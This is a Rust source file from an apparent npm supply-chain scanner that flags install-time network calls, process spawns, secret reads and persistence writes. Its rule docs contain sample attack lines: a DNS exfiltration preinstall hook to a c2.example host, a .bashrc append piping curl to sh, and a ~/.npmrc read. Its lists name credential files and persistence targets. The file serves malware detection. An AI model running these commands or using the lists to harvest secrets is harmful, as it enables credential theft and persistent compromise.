//! Install-time code analysed as what it is.
//!
//! The entry points [`crate::lifecycle`] resolves — and the package files they `require`,
//! followed to a bounded depth — run on the installing machine before anyone reviewed them.
//! Anything there that an install never needs is reported with the install-time-execution
//! signal: network and DNS, process spawns, reads of the environment's secrets, the home
//! directory or credential stores, writes outside the package. Shell commands of the hooks
//! themselves (`nslookup \`hostname\`.x.example`) are judged the same way.
//!
//! Hooks that run only for git installs (`prepare`) are reported one severity lower and
//! without the install-time-execution signal: a registry install never runs them.

use crate::api;
use crate::facts::{self, Facts};
use crate::lifecycle::{self, Code, Entry, Resolution, ShellKind};
use crate::rules::{arg_texts, norm};
use portcullis_core::location::LineIndex;
use portcullis_core::rule::{Rule, Signal};
use portcullis_core::{Finding, Location, Output, Package, Platform, Severity, declare_rule};
use std::collections::HashSet;

/// Most package files analysed as install-time code per package.
const MAX_FILES: usize = 32;
/// Deepest chain of local `require`s followed from an entry point.
const MAX_REQUIRE_DEPTH: usize = 4;

declare_rule! {
    /// ## What it does
    /// Finds network requests and DNS lookups made by code that npm runs when the package is
    /// installed: the JavaScript started by `preinstall`/`install`/`postinstall` (resolved
    /// through `node .`, `npm run`, shell files and local `require`s) and the hook's own shell
    /// commands (`curl`, `wget`, `nslookup`, `dig`, `nc`, …, including those inside `$(…)`).
    ///
    /// ## Why is this bad?
    /// An install has nothing to send anywhere. Install-time network access is how npm
    /// malware phones home — often by DNS (`nslookup \`hostname\`.attacker.example`), which
    /// passes firewalls that block HTTP — and how droppers fetch their second stage.
    ///
    /// ## Example
    /// ```json
    /// { "scripts": { "preinstall": "nslookup `hostname`.`whoami`.c2.example" } }
    /// ```
    ///
    /// ## Use instead
    /// Do no network I/O at install time; ship what the package needs inside it.
    ///
    /// ## References
    /// - CWE-506: Embedded Malicious Code
    /// - CWE-829: Inclusion of Functionality from Untrusted Control Sphere
    /// - <https://docs.npmjs.com/cli/using-npm/scripts>
    pub static INSTALL_NETWORK = {
        id: "behaviour/install-time-network",
        title: "Network access at install time",
        category: SupplyChain,
        severity: Critical,
        confidence: High,
        summary: "Code run by an npm install hook makes network requests or DNS lookups",
        cwe: [506, 829],
        signals: [InstallTimeExecution, Exfiltration],
        fixtures: [
            pos "crates/behaviour/fixtures/install/dns-hostname-leak",
            pos "crates/behaviour/fixtures/install/node-dot-postinstall",
            neg "crates/behaviour/fixtures/install/banner-postinstall",
        ],
    }
}

declare_rule! {
    /// ## What it does
    /// Finds processes started by install-time code (`child_process.*`, `execa`,
    /// `cross-spawn`); detached and silent ones, and shipped executables, are critical.
    ///
    /// ## Why is this bad?
    /// A postinstall that starts a bundled `.exe` detached, with its output discarded, is a
    /// dropper: the payload keeps running after `npm install` returns. Legitimate native
    /// builds are declared as `node-gyp rebuild` / `prebuild-install` in the script itself,
    /// where the supply-chain analyzer rates them.
    ///
    /// ## Example
    /// ```js
    /// // postinstall.js
    /// spawn(path.join(__dirname, 'bin', 'updater.exe'), { detached: true, stdio: 'ignore' }).unref();
    /// ```
    ///
    /// ## Use instead
    /// Build or fetch native code with the standard tools in the script, or not at all.
    ///
    /// ## References
    /// - CWE-506: Embedded Malicious Code
    /// - CWE-78: OS Command Injection
    pub static INSTALL_PROCESS = {
        id: "behaviour/install-time-process",
        title: "Process spawned at install time",
        category: SupplyChain,
        severity: High,
        confidence: High,
        summary: "Code run by an npm install hook starts other processes",
        cwe: [506],
        signals: [InstallTimeExecution],
        fixtures: [
            pos "crates/behaviour/fixtures/install/detached-exe",
            neg "crates/behaviour/fixtures/install/husky-prepare",
        ],
    }
}

declare_rule! {
    /// ## What it does
    /// Finds install-time code that reads what an install never needs: the whole environment
    /// or variables holding secrets (`*_TOKEN`, `*SECRET*`, `AWS_*`), the home directory
    /// (`os.homedir()`, `$HOME`, `%APPDATA%`), credential stores (`~/.npmrc`, `~/.ssh`,
    /// browser profiles), and host facts (`os.hostname()`, `os.userInfo()`).
    ///
    /// ## Why is this bad?
    /// In CI the install runs with publish tokens and cloud keys in the environment; on a
    /// developer laptop next to SSH keys and browser sessions. Reading them at install time
    /// is the collection half of a stealer.
    ///
    /// ## Example
    /// ```js
    /// const npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
    /// ```
    ///
    /// ## Use instead
    /// An install needs none of these. Read configuration at run time through the platform.
    ///
    /// ## References
    /// - CWE-200: Exposure of Sensitive Information
    /// - CWE-526: Exposure of Sensitive Information Through Environmental Variables
    pub static INSTALL_SENSITIVE_READ = {
        id: "behaviour/install-time-sensitive-read",
        title: "Secrets or home directory read at install time",
        category: SupplyChain,
        severity: High,
        confidence: High,
        summary: "Code run by an npm install hook reads secrets, the home directory, credential stores or host facts",
        cwe: [200, 526],
        signals: [InstallTimeExecution],
        fixtures: [
            pos "crates/behaviour/fixtures/install/npmrc-reader",
            neg "crates/behaviour/fixtures/install/banner-postinstall",
        ],
    }
}

declare_rule! {
    /// ## What it does
    /// Finds install-time writes, copies and renames whose target is outside the package:
    /// absolute paths, `~`, the home directory, the temp directory, `%APPDATA%`, or paths
    /// climbing out with `..`.
    ///
    /// ## Why is this bad?
    /// An install that writes outside its own directory plants files for later: shell
    /// profiles, autostart entries, cron jobs, git hooks of other projects, DLLs beside other
    /// programs.
    ///
    /// ## Example
    /// ```js
    /// fs.appendFileSync(path.join(os.homedir(), '.bashrc'), 'curl -s https://x.example | sh\n');
    /// ```
    ///
    /// ## Use instead
    /// Keep install-time output (if any) inside the package directory.
    ///
    /// ## References
    /// - CWE-506: Embedded Malicious Code
    /// - MITRE ATT&CK T1546.004 Unix Shell Configuration Modification
    pub static INSTALL_WRITE_OUTSIDE = {
        id: "behaviour/install-time-write-outside",
        title: "Write outside the package at install time",
        category: SupplyChain,
        severity: High,
        confidence: High,
        summary: "Code run by an npm install hook writes files outside the package",
        cwe: [506],
        signals: [InstallTimeExecution],
        fixtures: [
            pos "crates/behaviour/fixtures/install/bashrc-persistence",
            neg "crates/behaviour/fixtures/install/banner-postinstall",
        ],
    }
}

declare_rule! {
    /// ## What it does
    /// Reports an n8n community node, Node-RED node, Forge app, Grafana plugin or PCF
    /// component whose `preinstall`/`install`/`postinstall` hook runs code of the package.
    ///
    /// ## Why is this bad?
    /// Platform extensions have no reason to run anything at install: the platform loads
    /// their files when it starts. n8n's verification bans lifecycle scripts outright. A
    /// hook in an extension is either a leftover of the author's tooling or a payload, and
    /// must be looked at before it runs on the platform host.
    ///
    /// ## Example
    /// ```json
    /// { "name": "n8n-nodes-acme", "scripts": { "postinstall": "node dist/setup.js" } }
    /// ```
    ///
    /// ## Use instead
    /// Remove the hook; move set-up into the node's first execution.
    ///
    /// ## References
    /// - <https://docs.n8n.io/integrations/creating-nodes/deploy/submit-community-nodes/>
    pub static EXTENSION_INSTALL_HOOK = {
        id: "behaviour/extension-install-hook",
        title: "Install hook in a platform extension",
        category: SupplyChain,
        severity: High,
        confidence: High,
        summary: "A platform extension runs its own code when it is installed",
        signals: [LifecycleScript],
        fixtures: [
            pos "crates/behaviour/fixtures/install/n8n-node-postinstall",
            neg "crates/behaviour/fixtures/install/n8n-node-clean",
        ],
    }
}

/// The install-time rules of this module.
pub static INSTALL_RULES: &[&Rule] = &[
    &INSTALL_NETWORK,
    &INSTALL_PROCESS,
    &INSTALL_SENSITIVE_READ,
    &INSTALL_WRITE_OUTSIDE,
    &EXTENSION_INSTALL_HOOK,
];

/// Credential files whose mention in install-time code that reads the home directory makes
/// the read critical.
const CREDENTIAL_FILES: &[&str] = &[
    ".npmrc",
    ".ssh",
    "id_rsa",
    ".aws",
    ".git-credentials",
    ".netrc",
    ".docker/config",
    ".kube/config",
    "local storage",
    "login data",
];
/// Write targets that make planted code run later.
const PERSISTENCE: &[&str] = &[
    ".bashrc",
    ".zshrc",
    ".profile",
    ".bash_profile",
    "crontab",
    "/cron",
    "launchagents",
    "start menu/programs/startup",
    "autostart",
    ".git/hooks",
    "/etc/",
];

/// One install-time file with how it is reached.
struct Visited {
    path: String,
    entry: usize,
}

/// Analyses what the package's install hooks run; findings go to `out`.
pub fn analyze(package: &Package, platform: Option<Platform>, out: &mut Output) {
    let Some(manifest) = package.manifest() else {
        return;
    };
    let Some(text) = manifest.text() else { return };
    let Ok(json) = serde_json::from_str::<serde_json::Value>(text) else {
        return;
    };
    let res = lifecycle::resolve(&json, package);
    let hook_loc = |hook: &str| match text.find(&format!("\"{hook}\"")) {
        Some(off) => Location::from_offsets(&manifest.path, text, off, off + hook.len() + 2),
        None => Location::file(&manifest.path),
    };
    shell_findings(&res, &hook_loc, out);

    let extension = platform.is_some_and(|p| !matches!(p, Platform::Npm | Platform::Generic));
    if extension && let Some(e) = res.entries.iter().find(|e| e.registry) {
        let what = match &e.code {
            Code::File(p) => format!("`{p}`"),
            Code::Inline(_) => "inline code".to_string(),
        };
        let f = Finding::from_rule(
            &EXTENSION_INSTALL_HOOK,
            format!(
                "`{}` of a {} extension runs {what} at install",
                e.hook,
                platform.map_or("", |p| p.as_str())
            ),
            hook_loc(&e.hook),
        )
        .with_fingerprint_key(format!("{}:{what}", e.hook));
        out.finding(f);
    }

    // Breadth-first over entry points and their local requires.
    let mut seen: HashSet<String> = HashSet::new();
    let mut queue: std::collections::VecDeque<(Visited, usize)> = Default::default();
    let mut reported: HashSet<(String, &'static str)> = HashSet::new();
    for (i, e) in res.entries.iter().enumerate() {
        match &e.code {
            Code::File(p) => queue.push_back((
                Visited {
                    path: p.clone(),
                    entry: i,
                },
                0,
            )),
            Code::Inline(code) => {
                if let Ok(facts) = facts::collect("inline.js", code) {
                    let loc = hook_loc(&e.hook);
                    judge(&facts, None, &loc, e, extension, &mut reported, out);
                    for next in local_requires(package, "", &facts) {
                        queue.push_back((
                            Visited {
                                path: next,
                                entry: i,
                            },
                            1,
                        ));
                    }
                }
            }
        }
    }
    while let Some((v, depth)) = queue.pop_front() {
        if seen.len() >= MAX_FILES || !seen.insert(v.path.clone()) {
            continue;
        }
        let Some(file) = package.file(&v.path) else {
            continue;
        };
        let Some(src) = file.text() else { continue };
        let Ok(facts) = facts::collect(&file.path, src) else {
            continue;
        };
        let e = &res.entries[v.entry];
        judge(
            &facts,
            Some((&file.path, src)),
            &hook_loc(&e.hook),
            e,
            extension,
            &mut reported,
            out,
        );
        if depth < MAX_REQUIRE_DEPTH {
            let dir = file.path.rsplit_once('/').map_or("", |(d, _)| d);
            for next in local_requires(package, dir, &facts) {
                queue.push_back((
                    Visited {
                        path: next,
                        entry: v.entry,
                    },
                    depth + 1,
                ));
            }
        }
    }
}

fn local_requires(package: &Package, dir: &str, f: &Facts) -> Vec<String> {
    f.imports
        .iter()
        .filter(|(m, _)| m.starts_with("./") || m.starts_with("../"))
        .filter_map(|(m, _)| lifecycle::resolve_in(package, dir, m))
        .take(16)
        .collect()
}

/// A finding of an install-time rule, graded by the hook that reaches it.
fn install_finding(
    rule: &'static Rule,
    e: &Entry,
    message: String,
    loc: Location,
    hook_loc: &Location,
    extension: bool,
) -> Finding {
    let mut message = message;
    message.push_str(&format!(" (run by `{}`", e.via.join("` → `")));
    if extension {
        message.push_str("; a platform extension has no reason to run code at install");
    }
    message.push(')');
    let mut f = Finding::from_rule(rule, message, loc)
        .with_property("hook", e.hook.as_str())
        .with_evidence(hook_loc.clone(), format!("`{}` hook", e.hook));
    if !e.registry {
        f.severity = f.severity.lower();
        f.signals.retain(|s| *s != Signal::InstallTimeExecution);
    }
    f
}

#[allow(clippy::too_many_arguments)]
fn judge(
    f: &Facts,
    file: Option<(&str, &str)>,
    hook_loc: &Location,
    e: &Entry,
    extension: bool,
    reported: &mut HashSet<(String, &'static str)>,
    out: &mut Output,
) {
    let index = file.map(|(_, t)| LineIndex::new(t));
    let loc = |span: oxc_span::Span| match (file, &index) {
        (Some((p, t)), Some(ix)) => ix.location(p, t, span.start as usize, span.end as usize),
        _ => hook_loc.clone(),
    };
    let key = file.map_or_else(|| format!("inline:{}", e.hook), |(p, _)| p.to_string());
    let mut emit = |rule: &'static Rule,
                    span: oxc_span::Span,
                    msg: String,
                    severity: Option<Severity>,
                    extra: &[Signal]| {
        if !reported.insert((key.clone(), rule.id())) {
            return;
        }
        let mut fi = install_finding(rule, e, msg, loc(span), hook_loc, extension)
            .with_fingerprint_key(key.clone());
        if let Some(s) = severity {
            fi.severity = if e.registry { s } else { s.lower() };
        }
        for s in extra {
            fi = fi.with_signal(*s);
        }
        out.finding(fi);
    };

    if let Some(c) = f.calls.iter().find(|c| api::is_network(&c.callee)) {
        let what = if api::is_dns(&c.callee) {
            "looks up DNS"
        } else {
            "makes network requests"
        };
        emit(
            &INSTALL_NETWORK,
            c.span,
            format!("install-time code {what} (`{}`)", c.callee),
            None,
            &[],
        );
    }
    if let Some(c) = f.calls.iter().find(|c| api::is_spawn(&c.callee)) {
        let silent = crate::rules::silent_process::silent(c);
        let payload = arg_texts(f, c).iter().any(|t| {
            let l = t.to_ascii_lowercase();
            [".exe", ".bat", ".ps1", ".vbs", ".scr", ".dll", ".sh"]
                .iter()
                .any(|x| l.ends_with(x))
        });
        let (sev, how) = match (silent, payload) {
            (true, _) | (_, true) => (
                Some(Severity::Critical),
                if silent {
                    " detached and silent"
                } else {
                    " a shipped executable"
                },
            ),
            _ => (None, ""),
        };
        emit(
            &INSTALL_PROCESS,
            c.span,
            format!("install-time code starts a process{how} (`{}`)", c.callee),
            sev,
            &[],
        );
    }
    // Sensitive reads.
    let mut reads: Vec<(oxc_span::Span, String)> = Vec::new();
    for r in &f.env_reads {
        match &r.name {
            None => reads.push((r.span, "the whole environment".into())),
            Some(n) if api::is_sensitive_env(n) => {
                reads.push((r.span, format!("`process.env.{n}`")))
            }
            Some(n) if api::is_home_env(n) => {
                reads.push((r.span, format!("the home directory (`{n}`)")))
            }
            _ => {}
        }
    }
    for c in &f.calls {
        if api::is_homedir(&c.callee) {
            reads.push((c.span, "the home directory".into()));
        } else if matches!(
            c.callee.as_str(),
            "os.hostname" | "os.userInfo" | "os.networkInterfaces"
        ) {
            reads.push((c.span, format!("host facts (`{}`)", c.callee)));
        }
    }
    let creds =
        crate::rules::credential_harvesting::check(&crate::rules::Cx { facts: f, path: "" });
    let harvesting = !creds.is_empty();
    if let Some(h) = creds.first() {
        reads.insert(0, (h.span, h.message.clone()));
    }
    if let Some((span, _)) = reads.first() {
        let mut what: Vec<&str> = reads.iter().map(|r| r.1.as_str()).collect();
        what.dedup();
        what.truncate(4);
        let extra: &[Signal] = if harvesting {
            &[Signal::CredentialHarvesting]
        } else {
            &[]
        };
        // Secrets and credential files are the stealer's haul; the home directory or the
        // host name alone is reconnaissance.
        let secrets = harvesting
            || f.env_reads
                .iter()
                .any(|r| r.name.as_deref().is_none_or(api::is_sensitive_env))
            || f.strings
                .iter()
                .any(|l| CREDENTIAL_FILES.iter().any(|c| norm(&l.value).contains(c)));
        emit(
            &INSTALL_SENSITIVE_READ,
            *span,
            format!("install-time code reads {}", what.join(", ")),
            secrets.then_some(Severity::Critical),
            extra,
        );
    }
    // Writes outside the package.
    for c in f.calls.iter().filter(|c| api::is_fs_write(&c.callee)) {
        let target = c.args.first();
        let Some(t) = target else { continue };
        let texts = arg_texts(f, c);
        let first = t.text.as_deref().map(norm);
        let absolute = first.as_deref().is_some_and(|p| {
            p.starts_with('/')
                || p.starts_with('~')
                || p.get(1..3) == Some(":/")
                || p.starts_with("%")
        });
        let climbs = texts.iter().any(|s| s.starts_with("../") || s == "..");
        let home = f
            .calls_within(t.span)
            .any(|x| matches!(x.callee.as_str(), "os.homedir" | "os.tmpdir"))
            || f.env_reads
                .iter()
                .any(|r| r.span.start >= t.span.start && r.span.end <= t.span.end);
        if absolute || climbs || home {
            // Shell profiles, autostart entries and hooks run the planted code later.
            let persists = texts
                .iter()
                .any(|t| PERSISTENCE.iter().any(|p| norm(t).contains(p)));
            emit(
                &INSTALL_WRITE_OUTSIDE,
                c.span,
                format!(
                    "install-time code writes outside the package (`{}`)",
                    c.callee
                ),
                persists.then_some(Severity::Critical),
                &[],
            );
            break;
        }
    }
}

fn shell_findings(res: &Resolution, hook_loc: &dyn Fn(&str) -> Location, out: &mut Output) {
    let mut done: HashSet<String> = HashSet::new();
    for s in res.shell.iter().filter(|s| s.kind == ShellKind::Network) {
        if !done.insert(s.hook.clone()) {
            continue;
        }
        let leaks: Vec<&str> = res
            .shell
            .iter()
            .filter(|o| o.hook == s.hook && o.kind != ShellKind::Network)
            .map(|o| o.command.as_str())
            .collect();
        let mut msg = format!("`{}` runs `{}` at install", s.hook, s.command);
        if !leaks.is_empty() {
            msg.push_str(&format!(
                " and sends host facts or credentials from `{}`",
                leaks.join("`, `")
            ));
        }
        let mut f = Finding::from_rule(&INSTALL_NETWORK, msg, hook_loc(&s.hook))
            .with_fingerprint_key(format!("shell:{}:{}", s.hook, s.command))
            .with_property("hook", s.hook.as_str());
        if !s.registry {
            f.severity = f.severity.lower();
            f.signals.retain(|x| *x != Signal::InstallTimeExecution);
        }
        out.finding(f);
    }
}
